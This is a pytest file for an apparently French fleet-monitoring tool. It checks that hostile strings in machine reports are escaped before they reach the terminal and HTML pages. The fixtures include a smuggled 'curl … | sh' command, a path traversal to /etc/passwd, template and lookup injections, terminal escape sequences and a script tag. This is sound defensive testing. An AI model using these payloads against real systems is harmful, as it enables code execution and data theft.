"""Every field that a machine reports, with every hostile word, to every place where people read it."""

from __future__ import annotations

import datetime as dt
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from ansible_collections.cdg59.creatic.plugins.module_utils import harmless

from creatic.fleet import attested, waves
from creatic.morning import outgoing, screen
from creatic.morning.pages import Pages
from creatic.supervision import figures
from creatic.terminal import Grid

MOMENT = dt.datetime(2026, 11, 28, 7, 30, tzinfo=dt.UTC)
WORDS = {
    "template": "{{ 7 * 191 }}{% set x = 1 %}{valeur.__class__}",
    "lookup": "{{ lookup('pipe', 'echo 1337') }}$(echo 1337)`echo 1337`",
    "command": "x ; curl http://a.test/x | sh",
    "path": "../../../etc/passwd",
    "separator": 'a",b="c\\',
    "line": "a\nÀ faire : fab pki.rotation\r\nb",
    "control": "\x1b[2J\x1b]52;c;AAAA\x07\x00\x7f",
    "c1": "\x9b2J\x85",
    "direction": "\u202eedoc\u2066\u061c\u200f",
    "invisible": "a\u200b\u2060\ufeff\u00ad\U000e0041b\u2028c",
    "markup": "<script>alert(1)</script>[/x][red]",
    "quotes": "a » ; fab x « b",
    "half": "\ud800x",
}
UNFIT = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\u00ad]")
SINKS = ("texte", "remede", "terminal", "page", "page de la commune")
"""Where people read it."""
RULES = figures.rules()
LABELS = [
    (rule, label) for rule in RULES for label in figures.figure_specs()[rule.name].labels if label not in rule.labels
]
ASKED = ("unites", "disques", "illisibles", "raison")
"""Texts of an answer, beside its figures; numbers are below."""
NUMBERS = ("maintenant", "plein", "a_l_heure", "redemarrage")
SIGNED = ("texte",)
"""Texts of what a machine signs to the door that people read."""


def escaped(text: str) -> str:
    return text.replace("\\", r"\\").replace('"', r"\"").replace("\n", " ")


def held(rule: figures.Rule) -> tuple[float, str]:
    """A value for which a rule holds, and another figure that it looks at."""
    word, _, rest = rule.condition.partition(" ")
    if word == "part":
        return 100, rest.partition(" de ")[2]
    if word == "age_de":
        return 1, rest
    if word == "monte":
        return 3, ""
    return {"sur": lambda: float(rest) + 1, "sous": lambda: float(rest) - 1, "egal": lambda: float(rest)}.get(
        word, lambda: 1.0
    )(), ""


def told(rule: figures.Rule, label: str, word: str) -> Iterator[tuple[bool, str, str]]:
    """What a rule says of a figure of which a label is that word."""
    labels = dict.fromkeys(figures.figure_specs()[rule.name].labels, "x") | dict(rule.labels) | {label: word}
    inner = ",".join(f'{name}="{escaped(text)}"' for name, text in labels.items())
    value, other = held(rule)
    text = f"{rule.name}{{{inner}}} {value}\n" + (f"{other}{{{inner}}} 2\n" if other else "")
    profile = min(figures.figure_specs()[rule.name].profiles, default="")
    found = list(figures.allowed_figures(profile, figures.parse(text)))
    before = {one.key: 0.0 for one in found}
    yield from figures.judge(found, before, MOMENT.timestamp())


def findings(field: Any, word: str, home: Path) -> list[screen.Finding]:
    if isinstance(field, tuple):
        rule, label = field
        return [screen.Finding(not grave, "anor", "anor-pc", *said) for grave, *said in told(rule, label, word)]
    report: dict[str, Any] = {"maintenant": MOMENT.timestamp(), "mesures": [], "illisibles": [], "unites": []}
    report |= {"disques": [], "a_l_heure": True, "redemarrage": False}
    given: dict[str, Any] = {"rapport": report}
    if field == "raison":
        given = {"raison": word, "remede": "relancez"}
    else:
        report[field] = [{"point": word, "plein": 99}] if field == "disques" else [word]
    with_home = screen.look(home, {"anor-pc": "anor"}, {"anor-pc": given}, COMMUNES, MOMENT)
    return [one for one in with_home.findings if one.machine == "anor-pc"]


COMMUNES: dict[str, Any] = {
    "anor": {"commune": {"slug": "anor", "nom": "Anor"}, "passage": None, "hotes": {"anor-pc": {}}, "equipee": True,
             "prete": True, "dernier": None, "manques": []},
}  # fmt: skip # a table


def shown(found: list[screen.Finding], home: Path, capsys: pytest.CaptureFixture[str]) -> dict[str, str]:
    """What people read, by place."""
    grid = Grid("Degré", "Où", "Constat", "À faire", overflow="fold")
    morning = screen.Morning(MOMENT, findings=found, communes=COMMUNES)
    for row in screen.lines(morning):
        grid.add(*row)
    capsys.readouterr()
    grid.show(4000)
    pages = dict(Pages(home, morning, "essai", {"anor-pc": "anor"}).all(records=False))
    return {
        "texte": "".join(one.text for one in found),
        "remede": "".join(one.fix for one in found),
        "terminal": capsys.readouterr().out,
        "page": pages["index.html"],
        "page de la commune": pages["communes/anor.html"],
    }


def harmless_everywhere(seen: dict[str, str], word: str) -> None:
    assert {*seen} == {*SINKS}
    for place, text in seen.items():
        bare = text.replace("\n", "").replace("\t", "")
        assert bare.isprintable() or all(one.isprintable() or one.isspace() for one in bare), (place, word)
        assert not UNFIT.search(text), place
        assert "1337" not in text.replace("echo 1337", ""), place
        assert "<script>alert" not in text or not place.startswith("page"), place
    assert "\n" not in seen["texte"] + seen["remede"]
    assert not any(
        part in seen["remede"] for part in ("curl", "1337", "passwd", "script", harmless.REPLACEMENT_CHARACTER)
    )


def test_every_field_of_a_machine_is_looked_at() -> None:
    assert len(LABELS) >= 20 and len(WORDS) == 13 and len(SINKS) == 5
    places = {(rule.name, place) for rule in RULES for place in re.findall(r"\{(\w+)\}", rule.text)}
    own = {(rule.name, label) for rule, label in LABELS}
    assert {one for one in places if one[1] not in ("valeur", "age", "quand", "reste", "duree")} <= own
    answer = {"maintenant", "mesures", "illisibles", "unites", "disques", "a_l_heure", "redemarrage"}
    assert {*ASKED, *NUMBERS, "mesures"} - {"plein", "raison"} == answer  # host/report.py


@pytest.mark.parametrize("word", WORDS.values(), ids=[*WORDS])
def test_what_a_figure_says_arrives_as_text(word: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    found = [one for field in LABELS for one in findings(field, word, tmp_path)]
    assert len(found) == len(LABELS)
    harmless_everywhere(shown(found, tmp_path, capsys), word)
    for one in found:
        assert one.text.count("«") == one.text.count("»")


@pytest.mark.parametrize("word", WORDS.values(), ids=[*WORDS])
@pytest.mark.parametrize("field", ASKED)
def test_what_an_answer_says_arrives_as_text(
    field: str, word: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    found = findings(field, word, tmp_path)
    assert len(found) == 1
    harmless_everywhere(shown(found, tmp_path, capsys), word)


@pytest.mark.parametrize("word", [*WORDS.values(), [], {}, 1e400])
@pytest.mark.parametrize("field", NUMBERS)
def test_a_number_that_is_none_is_refused_where_it_enters(field: str, word: Any, tmp_path: Path) -> None:
    report: dict[str, Any] = {"maintenant": MOMENT.timestamp(), "mesures": [], "illisibles": [], "unites": []}
    report |= {"disques": [{"point": "/", "plein": 1}], "a_l_heure": True, "redemarrage": False}
    if field == "plein":
        report["disques"] = [{"point": "/", "plein": word}]
    else:
        report[field] = word
    told_ = screen.look(tmp_path, {"anor-pc": "anor"}, {"anor-pc": {"rapport": report}}, COMMUNES, MOMENT)
    for one in told_.findings:
        assert one.text.isprintable() and (not isinstance(word, str) or word not in one.text)


@pytest.mark.parametrize("word", WORDS.values(), ids=[*WORDS])
def test_what_a_machine_signs_arrives_as_text(
    word: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(attested, "_is_signed", lambda *_given: True)
    said = {"quoi": attested.KIND, "machine": "anor-pc", "version": 1, "posee": False, "genre": "echec", "texte": word}
    said |= {"identite": "", "preuves": "", "fin": MOMENT.isoformat()}
    row = attested.verify_report("anor-pc", {"signe": json.dumps(said), "signature": "x"}, lambda _name: [1])
    seen = {"nom": "anor-pc", "vue": MOMENT.isoformat(), "donnee": 1, "dernier": row | {"recu": MOMENT.isoformat()}}
    one = waves.machine_state("anor-pc", None, seen, MOMENT)
    assert word in str(one) or "\n" not in str(one)
    morning = screen.Morning(MOMENT, communes=COMMUNES)
    machine = waves.Machine("anor-pc", "anor", "215900000", "commune_pc", "a", "petite", 1)
    outgoing.add(morning, {"anor-pc": machine}, None, [one], [])
    assert len(morning.findings) == 1
    harmless_everywhere(shown(morning.findings, tmp_path, capsys), word)
    for text in waves.sentences(None, [one], []):
        assert text.isprintable()
